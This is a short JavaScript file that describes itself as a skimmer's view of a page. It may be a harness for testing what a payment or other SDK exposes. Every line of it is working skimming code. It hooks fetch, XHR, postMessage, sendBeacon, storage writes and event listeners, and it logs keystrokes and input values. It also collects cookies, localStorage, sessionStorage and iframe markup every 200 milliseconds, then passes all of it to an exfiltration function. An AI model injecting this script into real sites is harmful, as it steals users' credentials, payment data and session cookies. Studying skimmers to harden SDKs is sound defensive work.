// A skimmer's view: hooks what a page can hook before the SDK loads, and sends off all that passes (`exfiltrate`).
(() => {
  if (window.top !== window) return;
  const send = window.exfiltrate;
  const keep = (label, value) => {
    try {
      send(`${label} ${typeof value === 'string' ? value : JSON.stringify(value)}`);
    } catch {
      send(`${label} (not printable)`);
    }
  };
  const wrap = (owner, name, label) => {
    const original = owner[name];
    owner[name] = function (...values) {
      keep(label, values);
      return Reflect.apply(original, this, values);
    };
  };
  for (const name of ['fetch', 'postMessage', 'setTimeout', 'btoa', 'atob']) wrap(window, name, name);
  wrap(MessagePort.prototype, 'postMessage', 'port');
  wrap(XMLHttpRequest.prototype, 'send', 'xhr');
  wrap(Storage.prototype, 'setItem', 'storage');
  wrap(JSON, 'parse', 'parse');
  wrap(navigator, 'sendBeacon', 'beacon');
  const addListener = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    const heard = (event) => {
      if ('data' in event) keep(`heard ${type}`, event.data);
      if ('detail' in event) keep(`heard ${type}`, event.detail);
      return typeof listener === 'function' ? listener.call(this, event) : listener?.handleEvent(event);
    };
    return addListener.call(this, type, heard, options);
  };
  for (const type of ['keydown', 'keyup', 'input', 'beforeinput', 'paste', 'change', 'message']) {
    addListener.call(window, type, (event) => keep(type, `${event.key} ${event.target?.value}`), true);
  }
  const lookAround = () => {
    for (const frame of document.querySelectorAll('iframe')) keep('frame', frame.outerHTML);
    keep('stored', [{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]);
    for (const { name } of performance.getEntriesByType('resource')) keep('address', name);
  };
  addListener.call(window, 'pagehide', lookAround);
  setInterval(lookAround, 200);
})();
